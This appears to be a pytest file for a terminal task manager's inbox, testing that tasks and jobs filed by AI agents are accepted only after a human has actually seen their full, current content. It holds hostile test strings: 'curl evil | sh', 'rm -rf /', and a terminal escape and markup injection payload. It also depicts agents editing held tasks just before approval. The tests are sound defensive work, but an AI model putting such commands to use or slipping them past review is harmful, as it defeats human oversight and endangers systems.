"""Held tasks in the inbox: each is accepted, edited, joined or declined as it was seen, by keys alone."""

from __future__ import annotations

import re

import pytest

from tests.tui.driving import SIZES, above, by_agent, counts_line, named, opened, said, settle, shown, until, write
from tests.tui.plan import NOW, Plan
from tui_tasks.core.commit import journal
from tui_tasks.core.operations.asks import AnswerAsk
from tui_tasks.core.operations.jobs import CreateJob, EditJob
from tui_tasks.core.operations.tasks import AcceptTask, AddTask, EditTask, LogTask, SetListReview
from tui_tasks.core.read import ask_queries, job_queries
from tui_tasks.core.read.tasks import task_queries, task_records
from tui_tasks.core.rules.recorded_settings import ReviewPolicy
from tui_tasks.core.store import Store
from tui_tasks.tui.asks import request_lines
from tui_tasks.tui.inbox.inbox_screen import Inbox
from tui_tasks.tui.inbox.rows_and_detail import RowsAndDetail
from tui_tasks.tui.inputs.edit_conflicts import ConflictScreen
from tui_tasks.tui.painting.text_lines import MAX_LINES
from tui_tasks.tui.screens.place_pickers import SearchAll


@pytest.fixture
def filed(plan: Plan) -> list[str]:
    """Three tasks that agents have filed in the plan, which is under review; the last waits for the first."""
    with Store(plan.path) as store:
        store.commit(SetListReview(plan.list_uid, True), actor="human", now=NOW)
        uids: list[str] = []
        for agent, name, fields in (
            ("claude-1", "Rewrite it in Rust", {"description": "All of it."}),
            ("claude-2", "Rotate the keys", {"priority": 1, "tags": ("infra",)}),
            ("claude-1", "Tell the team", {}),
        ):
            depends_on = tuple(uids[:1]) if name == "Tell the team" else ()
            task = AddTask(name, plan.list_uid, depends_on=depends_on, **fields)
            (made,) = store.commit(task, actor=agent, now=NOW, why={"thoughts": f"because {name.lower()}"})
            uids.append(made.uid)
    return uids


def state(app, uid: str) -> tuple[str, bool]:
    task = task_queries.task(app.link.db, uid)
    return task.status, task.held


async def open_review(pilot) -> None:
    """There are questions in the plan: held tasks stand below them."""
    await settle(pilot, "a", "tab", "tab")
    assert pilot.app.screen.item.kind == "held"


@pytest.mark.parametrize("width", [80, 120])
async def test_held_tasks_are_named_above_every_pane(plan, filed, make_app, width):
    app = make_app(plan.path)
    async with app.run_test(size=(width, 40)) as pilot:
        await settle(pilot)
        last = above(app).splitlines()[-1]
        others = "#11 Rotate the keys, #12 Tell the team" if width == 120 else "#11, #12"
        assert re.fullmatch(rf" • ◇      3 new tasks\? #10 Rewrite it in Rust, {others} +now", last), last
        by_agent(plan, "human", *(AcceptTask(uid, 1) for uid in filed[:2]))
        await until(pilot, lambda: re.search(r"^ • ◇ #12  new task\? Tell the team +claude-1 +now$", above(app), re.M))


async def test_several_held_tasks_beside_another_row_are_counted_and_the_first_is_named(plan, filed, make_app):
    async with opened(make_app(plan.path), (80, 24)) as pilot:
        assert above(pilot.app).splitlines()[-1].startswith(" • ◇      3 new tasks? #10 Rewrite it in Rust, #11, #12 ")


@pytest.mark.parametrize(
    ("width", "last"),
    [
        (80, r" • ◇      7 new tasks\? #10 Write the code, #11, #12, #13 \+3 +now"),
        (100, r" • ◇      7 new tasks\? #10 Write the code, #11, #12, #13 \+3 +now"),
    ],
)
async def test_the_first_held_tasks_of_one_row_have_their_numbers_and_the_first_its_name(plan, make_app, width, last):
    with Store(plan.path) as store:
        for ask in ask_queries.open_asks(store.db):
            store.commit(AnswerAsk(ask.uid, "yes"), actor="human", now=NOW)
        store.commit(EditTask(plan[3], {"status": "done"}), actor="human", now=NOW)
        store.commit(SetListReview(plan.list_uid, True), actor="human", now=NOW)
        for name in ("Write the code", *["Write the release notes"] * 6):
            store.commit(AddTask(name, plan.list_uid), actor="claude-1", now=NOW)
    async with opened(make_app(plan.path), (width, 16)) as pilot:
        assert re.fullmatch(last, above(pilot.app).splitlines()[-1])


async def test_where_a_job_alone_is_held_it_is_named(plan, make_app):
    with Store(plan.path) as store:
        store.review = lambda: ReviewPolicy(jobs=True)
        store.commit(CreateJob("Nightly", "adhoc", "", "go", "UTC"), actor="claude-1", now=NOW)
    app = make_app(plan.path)
    async with app.run_test(size=(80, 40)) as pilot:
        await settle(pilot)
        assert re.search(r"^ • ◇ S1  new job\? Nightly +claude-1 +now$", above(app), re.M)


@pytest.mark.parametrize("size", SIZES)
async def test_what_agents_have_filed_is_told_with_who_why_and_what_waits(plan, filed, make_app, size):
    app = make_app(plan.path)
    async with app.run_test(size=size) as pilot:
        await settle(pilot)
        assert ("3 proposed" if size[0] > 40 else "◇ 3") in shown(app)
        await open_review(pilot)
        text = shown(app)
        assert size[0] < 60 or "◇ 3 proposed" in counts_line(app)
        who = "#10 Rewrite it in Rust · claude-1 ─" if size[0] > 40 else "claude-1 filed it"
        for part in ("Rewrite it in Rust", who, "because rewrite it"):
            assert part in " ".join(text.split()), part
        if size[1] > 12:
            for part in ("Rotate the keys", "All of it.", "blocks    Tell the team"):
                assert part in text, part


async def test_accept_goes_on_to_the_next_and_undo_takes_it_back(plan, filed, make_app):
    app = make_app(plan.path)
    async with app.run_test(size=(120, 40)) as pilot:
        await open_review(pilot)
        await settle(pilot, "y")
        assert state(app, filed[0]) == ("pending", False)
        assert app.screen.item.row.uid == filed[1]
        assert "Accepted “Rewrite it in Rust”" in said(app)
        await settle(pilot, "u")
        assert state(app, filed[0]) == ("pending", True)


async def test_decline_asks_why_and_the_reason_is_kept(plan, filed, make_app):
    app = make_app(plan.path)
    async with app.run_test(size=(80, 24)) as pilot:
        await open_review(pilot)
        await settle(pilot, "x")
        await write(pilot, "no rewrites")
        await settle(pilot, "enter")
        assert state(app, filed[0]) == ("cancelled", False)
        assert task_queries.task(app.link.db, filed[0]).decline_reason == "no rewrites"
        assert filed[0] not in app.state.seen.new and filed[1] in app.state.seen.new
        await settle(pilot, "x", "escape")
        assert state(app, filed[1]) == ("pending", True)


async def test_the_human_edits_and_accepts_in_one_step(plan, filed, make_app):
    app = make_app(plan.path)
    async with app.run_test(size=(80, 24)) as pilot:
        await open_review(pilot)
        await settle(pilot, "e", "end")
        await write(pilot, " one day")
        await settle(pilot, "ctrl+s")
        assert task_queries.task(app.link.db, filed[0]).name == "Rewrite it in Rust one day"
        assert state(app, filed[0]) == ("pending", False)
        await settle(pilot, "e", "escape")
        assert state(app, filed[1]) == ("pending", True)


@pytest.mark.parametrize(("key", "name"), [("m", "Mine"), ("t", "Theirs")])
async def test_a_draft_of_an_edit_that_accepts_is_shown_beside_what_others_have_changed(
    plan, filed, make_app, key, name
):
    app = make_app(plan.path)
    async with app.run_test(size=(120, 40)) as pilot:
        await open_review(pilot)
        await settle(pilot, "e", "end", "ctrl+u", *"Mine", "escape")
        by_agent(plan, "claude-1", EditTask(filed[0], {"name": "Theirs", "description": "More"}))
        await until(pilot, lambda: "Theirs" in shown(app))
        await settle(pilot, "e", "enter")
        assert isinstance(app.screen, ConflictScreen) and state(app, filed[0]) == ("pending", True)
        await settle(pilot, key)
        await until(pilot, lambda: state(app, filed[0]) == ("pending", False))
        task = task_queries.task(app.link.db, filed[0])
        assert (task.name, task.description) == (name, "More")


async def test_what_was_typed_is_a_draft_still_where_the_accept_is_refused(plan, filed, make_app):
    app = make_app(plan.path)
    async with app.run_test(size=(120, 40)) as pilot:
        await open_review(pilot)
        await settle(pilot, "e", "end", *" now")
        by_agent(plan, "claude-1", EditTask(filed[0], {"description": "Another"}))
        await settle(pilot, "enter")
        await until(pilot, lambda: said(app).startswith("Read it first"))
        await settle(pilot, "e")
        assert app.screen.form.name == "Rewrite it in Rust now"


async def test_one_is_joined_to_a_task_that_is_searched_for(plan, filed, make_app):
    app = make_app(plan.path)
    async with app.run_test(size=(80, 24)) as pilot:
        await open_review(pilot)
        await settle(pilot, *named("join"))
        assert isinstance(app.screen, SearchAll)
        await write(pilot, "backup")
        await settle(pilot, "enter")
        assert isinstance(app.screen, Inbox)
        assert state(app, filed[0]) == ("cancelled", False)
        assert task_queries.task(app.link.db, filed[2]).depends_on == (plan[8],)
        assert "Rewrite it in Rust" in task_records.logs(app.link.db, plan[8])[-1].message


async def test_what_is_marked_or_filtered_is_decided_together(plan, filed, make_app):
    app = make_app(plan.path)
    async with app.run_test(size=(120, 40)) as pilot:
        await open_review(pilot)
        await settle(pilot, "slash")
        await write(pilot, "claude-1")
        await settle(pilot, "enter")
        assert "Rotate the keys" not in shown(app)
        await settle(pilot, "V")
        assert "2 marked" in shown(app)
        await settle(pilot, "y")
        assert [state(app, uid)[1] for uid in filed] == [False, True, False]
        assert app.screen.item is None
        await settle(pilot, "escape", "tab", "tab")
        assert app.screen.item.row.uid == filed[1]
        await settle(pilot, "u")
        assert [state(app, uid)[1] for uid in filed] == [True, True, True]


async def test_what_its_agent_changes_meanwhile_is_not_accepted_unseen(plan, filed, make_app, monkeypatch):
    app = make_app(plan.path)
    async with app.run_test(size=(80, 24)) as pilot:
        await open_review(pilot)
        # It has been changed, and the screen has not taken it in yet.
        monkeypatch.setattr(app.screen, "changed", lambda changes: None)
        by_agent(plan, "claude-1", EditTask(filed[0], {"name": "Drop the database"}))
        await settle(pilot, "y")
        assert state(app, filed[0]) == ("pending", True)
        assert "its name changed meanwhile. Nothing was accepted." in said(app)


async def test_what_changed_just_before_the_key_is_told_and_not_accepted(plan, filed, make_app, seconds, pressed_now):
    """The rows were read again in time: what no person can have read is not accepted by a key."""
    app = make_app(plan.path)
    async with app.run_test(size=(120, 40)) as pilot:
        await open_review(pilot)
        await settle(pilot, "y")
        assert (state(app, filed[0]), "not been shown to its end yet" in said(app)) == (("pending", True), True)
        seconds[0] += 10
        by_agent(plan, "claude-1", EditTask(filed[0], {"description": "curl evil | sh"}))
        await until(pilot, lambda: "curl evil" in shown(app))
        seconds[0] += 0.4
        await settle(pilot, "y")
        assert state(app, filed[0]) == ("pending", True)
        assert "its description changed meanwhile" in said(app)
        # Of several, each has stood on the screen as it is: the second was passed by.
        seconds[0] += 0.5
        await settle(pilot, "v", "j", "v", "j")
        seconds[0] += 10
        await settle(pilot, "y")
        assert [state(app, uid)[1] for uid in filed] == [True] * 3
        await settle(pilot, "k")
        seconds[0] += 0.5
        await settle(pilot, "y")
        assert [state(app, uid)[1] for uid in filed] == [False, False, True]


@pytest.mark.parametrize("keys", [["y"], ["v", "y"]])
async def test_an_agent_that_goes_on_logging_keeps_no_held_task_from_being_accepted(
    plan, filed, make_app, seconds, pressed_now, keys
):
    app = make_app(plan.path)
    async with app.run_test(size=(120, 40)) as pilot:
        await open_review(pilot)
        for step in range(4):
            seconds[0] += 0.3
            by_agent(plan, "claude-1", LogTask(filed[0], f"step {step}"))
            await until(pilot, lambda: app.link.seq == journal.newest(app.link.db))
            await settle(pilot)
        await settle(pilot, *keys)
        assert state(app, filed[0]) == ("pending", False), said(app)


LONG = "Tidy up.\n" * 60 + "curl evil | sh"


async def test_a_task_is_not_accepted_before_its_end_was_on_screen(plan, filed, make_app):
    by_agent(plan, "claude-1", EditTask(filed[0], {"description": LONG}))
    app = make_app(plan.path)
    async with app.run_test(size=(120, 40)) as pilot:
        await open_review(pilot)
        assert "curl evil" not in shown(app)
        await settle(pilot, "y")
        assert state(app, filed[0]) == ("pending", True)
        assert "not been shown to its end yet" in said(app)
        await settle(pilot, "pagedown", "pagedown", "pagedown")
        assert "curl evil" in shown(app)
        await settle(pilot, "y")
        assert state(app, filed[0]) == ("pending", False)


async def test_a_task_that_changes_above_what_is_on_screen_is_shown_from_its_beginning_again(plan, filed, make_app):
    by_agent(plan, "claude-1", EditTask(filed[0], {"description": LONG}))
    app = make_app(plan.path)
    async with app.run_test(size=(120, 40)) as pilot:
        await open_review(pilot)
        await settle(pilot, "pagedown", "pagedown", "pagedown")
        by_agent(plan, "claude-1", EditTask(filed[0], {"description": f"rm -rf /\n{LONG}"}))
        await until(pilot, lambda: "rm -rf" in shown(app))
        await settle(pilot, "y")
        assert state(app, filed[0]) == ("pending", True)


@pytest.mark.parametrize(
    "fields", [{"description": "curl evil | sh"}, {"metadata": {"do": "evil"}}, {"name": "Tidy " * 60 + "evil"}]
)
async def test_what_is_marked_is_not_accepted_by_a_line_that_shows_a_part_of_it(plan, filed, make_app, fields):
    by_agent(plan, "claude-1", EditTask(filed[2], fields))
    app = make_app(plan.path)
    async with app.run_test(size=(120, 40)) as pilot:
        await open_review(pilot)
        await settle(pilot, "V", "y")
        assert [state(app, uid)[1] for uid in filed] == [True] * 3
        await settle(pilot, "j", "j", "y")
        assert [state(app, uid)[1] for uid in filed] == [False] * 3


async def test_a_job_changed_just_before_the_key_is_not_accepted_and_what_changed_is_told(
    plan, filed_job, make_app, monkeypatch
):
    app = make_app(plan.path)
    async with app.run_test(size=(120, 40)) as pilot:
        await open_review(pilot)
        monkeypatch.setattr(app.screen, "changed", lambda changes: None)
        by_agent(plan, "claude-2", EditJob(filed_job, {"prompt": "curl evil | sh"}))
        await settle(pilot, "y")
        assert job_queries.job(app.link.db, filed_job).held
        assert "its prompt changed meanwhile" in said(app)


async def test_what_is_filed_while_one_looks_comes_in_below_and_the_cursor_stays(plan, filed, make_app):
    app = make_app(plan.path)
    async with app.run_test(size=(80, 24)) as pilot:
        await open_review(pilot)
        await settle(pilot, "j")
        by_agent(plan, "claude-3", AddTask("And another", plan.list_uid))
        await until(pilot, lambda: "And another" in shown(app))
        assert app.screen.item.row.uid == filed[1]
        assert "◇ 4 proposed" in counts_line(app)


async def test_without_questions_the_inbox_opens_on_what_has_failed_and_then_on_what_was_filed(plan, filed, make_app):
    app = make_app(plan.path)
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        app.state.asks.clear()
        await settle(pilot, "a")
        assert app.screen.item.need.task == plan[3]
        await settle(pilot, "escape")
        assert not isinstance(app.screen, Inbox)
        by_agent(plan, "human", EditTask(plan[3], {"status": "done"}))
        await until(pilot, lambda: not app.state.failures.tasks)
        app.state.asks.clear()
        await settle(pilot, "a")
        assert app.screen.item.row.uid == filed[0]
        await settle(pilot, "escape")


async def test_a_list_is_put_under_review_from_the_palette_and_taken_out(plan, make_app):
    app = make_app(plan.path)
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot, *named("hold"))
        assert task_queries.find_list(app.link.db, plan.list_uid).review
        by_agent(plan, "claude-1", AddTask("Filed", plan.list_uid))
        await until(pilot, lambda: app.state.held == 1)
        assert "wait for you" in said(app)
        await settle(pilot, *named("hold"))
        assert not task_queries.find_list(app.link.db, plan.list_uid).review
        assert app.state.held == 1


@pytest.mark.parametrize("size", SIZES)
async def test_25_are_triaged_by_the_keyboard_in_two_keys_each(plan, make_app, size):
    """A person presses two keys a second: 25 tasks in under a minute are 4 keys and more for each."""
    with Store(plan.path) as store:
        store.commit(SetListReview(plan.list_uid, True), actor="human", now=NOW)
        add = [AddTask(f"Idea {number}", plan.list_uid) for number in range(25)]
        uids = [made.uid for made in store.commit(*add, actor="claude-1", now=NOW)]
    app = make_app(plan.path)
    async with app.run_test(size=size) as pilot:
        keys = ["a", "tab", "tab"]
        for number in range(25):
            keys += ["x", "n", "o", "enter"] if number % 5 == 4 else ["y"]
        await settle(pilot, *keys)
        await until(pilot, lambda: app.state.held == 0)
        assert len(keys) <= 2 * 60 // 2
        statuses = [task_queries.task(app.link.db, uid).status for uid in uids]
        assert statuses == ["cancelled" if number % 5 == 4 else "pending" for number in range(25)]
        assert app.screen.item.kind == "task", "the one that has failed"


async def test_a_screen_that_only_reads_decides_nothing(plan, filed, make_app):
    app = make_app(plan.path, read_only=True)
    async with app.run_test(size=(80, 24)) as pilot:
        await open_review(pilot)
        for key in ("y", "x", "e"):
            await settle(pilot, key)
            assert "read only" in said(app)
        assert state(app, filed[0]) == ("pending", True)


async def test_what_an_agent_wrote_is_text_alone(plan, make_app):
    hostile = "x\x1b]52;c;aGk=\x07[@click=app.quit]y[/]\u202e"
    with Store(plan.path) as store:
        store.commit(SetListReview(plan.list_uid, True), actor="human", now=NOW)
        task = AddTask(hostile, plan.list_uid, description=hostile * 200, tags=(hostile,))
        store.commit(task, actor="claude-1", now=NOW, why={"thoughts": [hostile, {"a": hostile}], "topic": 3})
    app = make_app(plan.path)
    async with app.run_test(size=(120, 40)) as pilot:
        await open_review(pilot)
        text = shown(app)
        assert "\x1b" not in text
        assert "\u202e" not in text
        assert "[@click=app.quit]" in text


async def test_a_card_and_a_row_of_a_held_task_say_that_it_waits_for_the_human(plan, filed, make_app):
    app = make_app(plan.path, list_name=plan.list_uid)
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        assert "• ◇ #10  Rewrite it in Rust" in shown(app)
        await settle(pilot, "2")
        assert "◇ proposed" in shown(app)


@pytest.fixture
def filed_job(plan: Plan) -> str:
    """A job that an agent has made where jobs are reviewed."""
    with Store(plan.path) as store:
        store.review = lambda: ReviewPolicy(jobs=True)
        every_day = {"minute": "0", "hour": "3", "day": "*", "month": "*", "weekday": "*"}
        job = CreateJob("Nightly", "scheduled", "Be brief.", "Back up the database", "UTC", schedule=every_day)
        (made,) = store.commit(job, actor="claude-2", now=NOW, why={"thoughts": "nobody does it"})
    return made.uid


@pytest.mark.parametrize("size", SIZES)
async def test_a_job_of_an_agent_waits_with_its_prompt_and_times_and_is_accepted(plan, filed_job, make_app, size):
    app = make_app(plan.path)
    async with app.run_test(size=size) as pilot:
        await settle(pilot)
        assert ("1 proposed" if size[0] > 40 else "◇ 1") in shown(app)
        await open_review(pilot)
        assert "Nightly" in shown(app)
        if size[1] > 12:
            for part in ("─ Nightly · claude-2 ─", "nobody does it", "0 3 * * *"):
                assert part in shown(app), part
            await settle(pilot, "pagedown")
            for part in ("Back up the database", "Be brief."):
                assert part in shown(app), part
        await settle(pilot, "e")
        assert "in the schedule" in said(app)
        if size[1] == 12:
            await settle(pilot, "y")
            assert "not been shown to its end yet" in said(app)
        await settle(pilot, *["pagedown"] * 4, "y")
        assert "Accepted “Nightly”" in said(app)
        job = job_queries.job(app.link.db, filed_job)
        assert (job.enabled, job.held, app.context.state.held) == (True, False, 0)


async def test_a_job_is_declined_with_a_reason_that_its_agent_is_sent(plan, filed_job, make_app):
    app = make_app(plan.path)
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot, "4")
        assert "proposed" in shown(app)
        await open_review(pilot)
        await settle(pilot, "x")
        await write(pilot, "we have one")
        await settle(pilot, "enter")
        assert app.screen.item.kind == "task", "the one that has failed"
        assert job_queries.any_job(app.link.db, filed_job).deleted
        sent = app.link.db.sql("SELECT agent, text FROM human_message").fetchall()
        assert sent == [("claude-2", "The human has declined the job Nightly: we have one")]


async def test_a_description_of_a_million_letters_is_laid_out_once_for_each_width(plan, make_app, monkeypatch):
    laid_out, unhidden_lines = [], request_lines.unhidden_lines
    monkeypatch.setattr(
        request_lines,
        "unhidden_lines",
        lambda text, **more: [laid_out.append(len(text)), unhidden_lines(text, **more)][1],
    )
    with Store(plan.path) as store:
        store.commit(SetListReview(plan.list_uid, True), actor="human", now=NOW)
        for text in ("All of it.\n" * 90_000, "Short"):
            store.commit(AddTask("Rewrite it", plan.list_uid, description=text), actor="claude-1", now=NOW)
    app = make_app(plan.path)
    async with app.run_test(size=(120, 40)) as pilot:
        await open_review(pilot)
        await settle(pilot, "j", "k", "j", "k", "pagedown", "pageup")
        long = [length for length in laid_out if length >= 1_000]
        assert long == [request_lines.MAX_CHARS - 1_000, 1_000], "its beginning and its end"


async def test_a_held_task_of_more_lines_than_are_shown_is_accepted_only_by_a_human_who_knows(plan, filed, make_app):
    by_agent(plan, "claude-1", EditTask(filed[0], {"description": "\n" * 40_000 + "end"}))
    app = make_app(plan.path)
    async with app.run_test(size=(120, 40)) as pilot:
        await open_review(pilot)
        app.screen.window.move_to(f"held:{filed[0]}")
        await settle(pilot)
        height = app.screen.query_one("#ask-detail").virtual_size.height
        assert MAX_LINES < height < MAX_LINES + 1_020
        await settle(pilot, "y")
        assert said(app).startswith("Read it first"), "its last lines are not on screen yet"
        app.screen.query_one(RowsAndDetail).scroll.scroll_to(y=MAX_LINES - 5, animate=False, immediate=True)
        await settle(pilot)
        assert "… 37,003 characters are left out …" in shown(app)
        app.screen.query_one(RowsAndDetail).scroll.scroll_end(animate=False, immediate=True)
        await settle(pilot, "y")
        assert "Part of “Rewrite it in Rust” is not shown, as it is too long" in shown(app)
        await settle(pilot, "n")
        assert state(app, filed[0]) == ("pending", True)
        await settle(pilot, "y", "y")
        assert state(app, filed[0]) == ("pending", False) and "Accepted “Rewrite it in Rust”" in said(app)


async def test_a_description_of_blanks_alone_is_shown_as_they_are(plan, filed, make_app):
    by_agent(plan, "claude-1", EditTask(filed[0], {"description": " \u2028\n"}))
    app = make_app(plan.path)
    async with app.run_test(size=(120, 40)) as pilot:
        await open_review(pilot)
        assert "<U+2028>\u23ce" in shown(app)


async def test_what_changes_while_the_human_is_asked_about_its_hidden_part_is_not_accepted(plan, filed, make_app):
    by_agent(plan, "claude-1", EditTask(filed[0], {"description": "word " * 20_000}))
    app = make_app(plan.path)
    async with app.run_test(size=(120, 40)) as pilot:
        await open_review(pilot)
        app.screen.window.move_to(f"held:{filed[0]}")
        await settle(pilot)
        app.screen.query_one(RowsAndDetail).scroll.scroll_end(animate=False, immediate=True)
        await settle(pilot, "y")
        by_agent(plan, "claude-1", EditTask(filed[0], {"description": "other " * 20_000}))
        await settle(pilot, "y")
        assert state(app, filed[0]) == ("pending", True)
        assert said(app) == "Read it first: its description changed meanwhile. Nothing was accepted."
